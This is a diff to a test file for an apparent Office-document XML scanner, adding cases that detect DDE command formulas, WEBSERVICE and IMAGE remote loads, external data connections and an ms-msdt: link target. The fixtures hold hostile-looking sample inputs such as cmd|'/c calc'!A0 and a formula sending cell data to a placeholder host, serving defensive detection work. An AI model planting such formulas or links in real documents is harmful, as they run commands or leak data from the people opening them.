@@ -78,6 +78,14 @@ def test_text_between_the_pieces_counts_inside_of_a_field_only() -> None:
         ('<x:a x:href="cmd.exe /c calc"/>', "office.runs_program"),
         ("<x:encryption-data/>", "office.locked"),
         ('<definedName name="_xlnm.Auto_Open" hidden="1">A!B1</definedName>', "office.xlm_autorun"),
+        ("<c><f>cmd|'/c calc'!A0</f></c>", "office.dde_command"),
+        ("<c><x:f>cmd|&apos;/c calc&apos;!A0</x:f></c>", "office.dde_command"),
+        ('<c><f>_xlfn.WEBSERVICE("https://a.example/?"&amp;A1)</f></c>', "office.loads"),
+        ('<c><f>_xlfn.IMAGE("https://a.example/x.png")</f></c>', "office.loads_picture"),
+        ('<connection id="1" odcFile="https://a.example/x.odc"/>', "office.data_connection"),
+        ('<connection id="1"><dbPr connection="DSN=stock"/></connection>', "office.data_connection"),
+        ('<w:connectString w:val="Provider=ACE;Data Source=a.mdb"/>', "office.data_connection"),
+        ('<x:shape href="ms-msdt:/id x"/>', "office.strange_target"),
     ],
 )
 def test_each_sign_is_noted(body: str, code: str) -> None:
@@ -95,6 +103,8 @@ def test_each_sign_is_noted(body: str, code: str) -> None:
         '<o:OLEObject ProgID="Excel.Sheet.12" Type="Embed"/>',
         '<definedName name="_xlnm.Print_Area">A!B1</definedName>',
         '<x:Cell x:Formula="=SUM(A1:A2)"/>',
+        '<c><f>HYPERLINK("https://a.example/","a")</f></c>',
+        '<x:shape href="https://a.example/"/>',
         "<f>EXEC(1)</f>",
     ],
 )
@@ -106,6 +116,13 @@ def test_formulas_of_macro_sheets_count() -> None:
     assert read("<m><definedName/><f>EXEC(&quot;x&quot;)</f></m>", is_macro_sheet=True)[0] == [
         ("office.xlm_command", "EXEC")
     ]
+
+
+def test_links_of_formulas_and_shapes_are_given_on() -> None:
+    insides = Insides()
+    body = '<c><f>HYPERLINK("https://a.example/","a")</f></c><x:shape href="https://b.example/"/>'
+    XmlSigns(insides).read(wrap(body).encode())
+    assert [link.url for link in insides.links] == ["https://a.example/", "https://b.example/"]
 
 
 def test_files_in_the_xml_are_handed_on() -> None:
